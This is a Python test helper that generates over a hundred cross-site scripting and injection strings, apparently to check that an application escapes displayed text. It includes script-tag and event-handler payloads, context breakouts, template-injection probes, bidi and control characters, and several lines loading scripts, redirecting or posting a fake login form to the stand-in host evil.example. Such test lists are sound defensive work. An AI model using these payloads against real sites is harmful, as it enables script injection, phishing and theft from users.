"""Texts that would run as a script, leave their place, or disguise themselves, were they shown as they stand."""

from __future__ import annotations

EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "a href=x", "marquee")
MARK = "window.__ran=1"


def payloads() -> list[str]:
    """More than a hundred, all different."""
    found = [f"<{tag} {event}={MARK}>" for tag in TAGS for event in EVENTS]
    found += [
        f"<script>{MARK}</script>",
        f"<SCRIPT>{MARK}</SCRIPT>",
        f"<scr<script>ipt>{MARK}</scr</script>ipt>",
        f"</script><script>{MARK}</script>",
        f"</title><script>{MARK}</script>",
        f"</textarea><script>{MARK}</script>",
        f"</style><script>{MARK}</script>",
        f"--><script>{MARK}</script><!--",
        f"]]><script>{MARK}</script>",
        f"<script src=data:text/javascript,{MARK}></script>",
        "<script src=//evil.example/x.js></script>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<form action=//evil.example/><input name=csrf><button>Log in</button></form>",
        "<img src=//evil.example/pixel.png>",
        "<style>*{background:url(//evil.example/)}</style>",
        f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
        f"<object data='data:text/html,<script>{MARK}</script>'></object>",
        f"<embed src='javascript:{MARK}'>",
        f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
        f"<a href='javascript:{MARK}'>paper</a>",
        f"javascript:{MARK}",
        f'" autofocus onfocus={MARK} x="',
        f"' autofocus onfocus={MARK} x='",
        f'"><img src=x onerror={MARK}>',
        f"'><img src=x onerror={MARK}>",
        f"` onmouseover={MARK} `",
        "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "${alert(1)}#{alert(1)}<%= 1 %>",
        f"<div hx-get=/logout hx-trigger=load hx-on::load={MARK}>",
        f"<div hx-ext=sse sse-connect=//evil.example/ sse-swap=x hx-on:click={MARK}>",
        "\u202ereversed\u202c and \u2066isolated\u2069",
        "\x00\x08\x1b[31mred\x1b[0m\x7f",
        "\ufeff\ufffe\ud800".encode("utf-8", "replace").decode(),
        f"&lt;script&gt;{MARK}&lt;/script&gt;",
        f"&#x3c;script&#x3e;{MARK}&#x3c;/script&#x3e;",
        f"%3Cscript%3E{MARK}%3C/script%3E",
    ]
    return found
